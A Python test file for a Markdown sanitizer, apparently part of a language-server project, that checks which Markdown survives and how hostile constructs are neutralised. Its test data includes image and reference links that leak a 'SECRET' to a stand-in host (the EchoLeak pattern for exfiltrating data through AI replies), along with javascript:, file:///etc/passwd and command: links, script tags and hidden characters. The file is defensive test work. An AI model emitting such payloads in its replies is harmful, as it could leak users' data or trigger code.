"""The subset of Markdown that is shown: what stays, and what becomes of everything else (A10)."""

import pytest

from moa_lsp.answers.markdown import MAX_MARKDOWN_CHARS, safe

KEPT = {
    "words": "It adds *one*.\n\n- `a`: a **number** \U0001f980\n- ~~b~~\n",
    "headings": "# One\n\nTwo\n---\n\n### Three\n",
    "a table": "| a | b |\n|:--|--:|\n| `x\\|y` | z |\n",
    "code": "```python\nx = '![a](http://e.x)'  # <img> [b]: c\n```\n\n    indented <b>\n",
    "quotes and nested lists": "> 1. a\n>    - b\n>\n> c\n",
    "escapes and entities": "\\[a\\](b) \\<img> &lt;b&gt; a < b & c\n",
    "an open fence": "```go\nfunc main() {",
    "a footnote's look, escaped": "a\\[^1\\]\n",
}


@pytest.mark.parametrize("name", KEPT)
def test_what_is_of_the_subset_stays_to_the_letter(name):
    assert safe(KEPT[name]) == KEPT[name]


HOSTILE = {
    "an image": ("![logo](https://e.x/p?q=SECRET)", "image: logo (`e.x/p`)"),
    "an image without words": ("![](https://e.x/p)", "image: without words (`e.x/p`)"),
    "an image in a link": (
        "[![a](https://e.x/i)](https://f.x)",
        "image: a (`e.x/i`) (`f.x`)",
    ),
    "a link": ("see [the docs](https://e.x/a?b=c#d).", "see the docs (`e.x/a`)."),
    "a link with a title": ('[a](https://e.x "hover")', "a (`e.x`)"),
    "a user in the address": ("[a](https://good.org@e.x/)", "a (`e.x/`)"),
    "an autolink": ("<https://e.x/p?q=SECRET>", "`e.x/p`"),
    "a bare address": ("at https://e.x/p?q=SECRET, or www.e.x", "at `e.x/p` or `www.e.x`"),
    "a reference (EchoLeak)": ("![a][r] and [b][r]\n\n[r]: https://e.x/?q=SECRET",
                               "image: a (`e.x/`) and b (`e.x/`)"),
    "a shortcut reference": ("[r]\n\n[r]: https://e.x", "r (`e.x`)"),
    "an unused definition": ("a\n\n[r]: https://e.x", "a"),
    "a definition that looks like a footnote": ("a[^1]\n\n[^1]: https://e.x", "a^1 (`e.x`)"),
    "a footnote": ("a[^1]\n\n[^1]: more words", "a\\[^1\\]\n\n\\[^1\\]: more words"),
    "a reference without a definition": ("[a][b]", "\\[a\\]\\[b\\]"),
    "a command": ("[Run](command:workbench.action.terminal.new)", "Run (`command:`)"),
    "a file": ("[a](file:///etc/passwd)", "a (`file:`)"),
    "a script": ("[a](javascript:alert(1))", "a (`javascript:`)"),
    "data": ("![a](data:image/svg+xml;base64,AAAA)", "image: a (`data:`)"),
    "a relative link": ("[a](../src/x.py)", "a (`../src/x.py`)"),
    "an address of entities": ("[a](&#106;avascript:x)", "a (`javascript:`)"),
    "a broken address": ("to http://e\u2100x/", "to `an address that cannot be read`"),
    "a tag": ('a <img src="https://e.x/p"> b', 'a \\<img src="`e.x/p`"> b'),
    "a block of HTML": ("<div>\n*a*\n</div>", "\\<div>\n\\*a\\*\n\\</div>"),
    "a comment": ("<!-- hidden -->", "\\<!-- hidden -->"),
    "a script's block": ("<script>\n\nalert(1)\n</script>",
                         "\\<script>\n\nalert(1)\n\\</script>"),
    "nothing of a tag": ("<img\n", "\\<img"),
    "a heading underlined after a link": ("[a](b)\n===", "# a (`b`)"),
    "HTML that would be a heading": ("<b>\n---\n\n", "\\<b>\n\\---"),
    "front matter": ("---\ntitle: x\n", "***\n\ntitle: x"),
    "a fence that says too much": ("```{include} /etc/passwd\n```", "```\n\n```"),
    "a fence that renderers act on": ("```plantuml\nx\n```", "```\nx\n```"),
    "code that wants out": ("`` a` ![x](y) `` [b](c)", "``a` ![x](y)`` b (`c`)"),
    "a fence in a fence": ("````\n```\n[a](b)\n````\n[c](d)",
                           "````\n```\n[a](b)\n````\n\nc (`d`)"),
    "a table's link": ("| a |\n|---|\n| [x\\|y](http://e.x) |",
                       "| a |\n| --- |\n| x\\|y (`e.x`) |"),
    "hidden characters": ("a\u202eb \x1b[31m\u200b\U000e0041",
                          "a\\u202eb \\x1b[31m\\u200b\\U000e0041"),
    "a text that begins like a list once the tag is gone": ("<b>\n\n1. a <i>",
                                                            "\\<b>\n\n1. a \\<i>"),
    "too deep": ("> " * 30 + "![a](b)", f"```\n{'> ' * 30}![a](b)\n```"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_A10_A11_what_fetches_runs_or_hides_becomes_words(name):
    given, wanted = HOSTILE[name]
    assert safe(given) == wanted
    assert safe(wanted) == wanted
    assert "SECRET" not in safe(given)


def test_a_long_text_is_cut_where_it_can_be_seen_and_its_fence_is_closed():
    text = "words\n\n```python\n" + "x = 1\n" * MAX_MARKDOWN_CHARS
    shown = safe(text)
    assert len(shown) <= MAX_MARKDOWN_CHARS
    *_, last_of_code, fence, blank, note = shown.split("\n")
    assert (fence, blank) == ("```", "")
    assert "x = 1".startswith(last_of_code)
    assert note.startswith("*Cut off here: the text is longer than 32,768")
